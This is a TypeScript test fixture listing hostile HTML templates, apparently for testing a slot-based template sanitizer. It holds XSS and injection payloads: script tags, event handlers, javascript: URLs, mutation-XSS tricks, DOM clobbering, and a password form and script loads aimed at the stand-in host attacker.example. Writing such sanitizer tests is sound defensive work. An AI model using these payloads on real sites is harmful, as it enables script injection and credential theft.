const slots = '<div data-slot="heading"></div><div data-slot="list"></div><div data-slot="save"></div>'

/**
 * Templates that try to do more than place slots; each places the demo window's slots too. Their scripts would set
 * `window.hostile`.
 */
export const hostileTemplates: Readonly<Record<string, string>> = {
  'a script': `<script>window.hostile = 1</script>${slots}<script src="https://attacker.example/x.js"></script>`,
  'event handlers': `<img src="x" width="9" height="9" onerror="window.hostile = 1"><div onclick="window.hostile = 1" onfocus="window.hostile = 1" tabindex="0" autofocus>${slots}</div>`,
  'a handler at the slot itself': `<div data-slot="heading" onmouseover="window.hostile = 1" style="position:fixed"></div>${slots}`,
  'javascript addresses': `<a href="javascript:window.hostile=1">a</a><a href=" jAvA&#10;script&colon;window.hostile=1">b</a><a href="data:text/html,<script>1</script>">c</a>${slots}`,
  styles: `<style>* { display: none !important }</style><link rel="stylesheet" href="https://attacker.example/x.css"><div style="position:fixed;inset:0;z-index:9" class="sc-a">${slots}</div>`,
  'a form': `<form id="f" name="forms" action="https://attacker.example/" method="post"><input name="password" type="password"><textarea>t</textarea><select><option>o</select><button type="submit">Weiter</button>${slots}</form>`,
  'names that clobber': `<img name="getElementById" src="/x.png" width="9" height="9"><form name="body"><input name="attributes"><input name="childNodes"></form><a id="createElement"></a><a id="foyer" name="location" href="/x">x</a>${slots}`,
  'a form whose fields hide its own properties': `<form data-slot="list"><input name="localName"><input name="dataset"><input name="childNodes"><input name="nodeType"></form>${slots}`,
  'frames and plug-ins': `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe><object data="javascript:window.hostile=1">o</object><embed src="javascript:window.hostile=1"><frameset><frame src="x"></frameset>${slots}`,
  'base, meta and title': `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><title>hostile</title>${slots}`,
  'svg and math': `<svg onload="window.hostile=1"><script>window.hostile=1</script><a xlink:href="javascript:window.hostile=1"><text>t</text></a></svg><math><mtext><script>window.hostile=1</script></mtext></math>${slots}`,
  'mutation through math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=1&gt;"></table></mtext></math>${slots}`,
  'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>${slots}`,
  'mutation through svg style': `<svg></p><style><a id="</style><img src=1 onerror=window.hostile=1>"></style></svg>${slots}`,
  'mutation through nested forms': `${slots}<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hostile=1></style></mglyph></form>`,
  'mutation through a select': `${slots}<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=window.hostile=1>"></select>`,
  'a shadow tree': `<div><template shadowrootmode="open"><script>window.hostile=1</script><slot></slot></template></div>${slots}`,
  'a custom element': `<foyer-root is="x-y" onload="window.hostile=1"><x-attack>t</x-attack></foyer-root>${slots}`,
  entities: `&lt;script&gt;window.hostile=1&lt;/script&gt;<div title="&quot;&gt;&lt;script&gt;window.hostile=1&lt;/script&gt;">${slots}</div>`,
  'HTML that ends inside a tag': `<table><tr><td>${slots}<div title="unfinished`,
  'a link and a label around the slots': `<a href="https://attacker.example/"><label for="x">${slots}</label></a>`,
  'attributes that hide or lock': `<div hidden inert aria-hidden="true" contenteditable popover role="presentation">${slots}</div>`,
  'slots named like inherited properties of JavaScript objects': `<div data-slot="__proto__"></div><div data-slot="constructor"></div><div data-slot="toString"></div>${slots.replace('data-slot="list"', 'data-slot="list" data-__proto__="x" data-constructor="y"')}`,
}
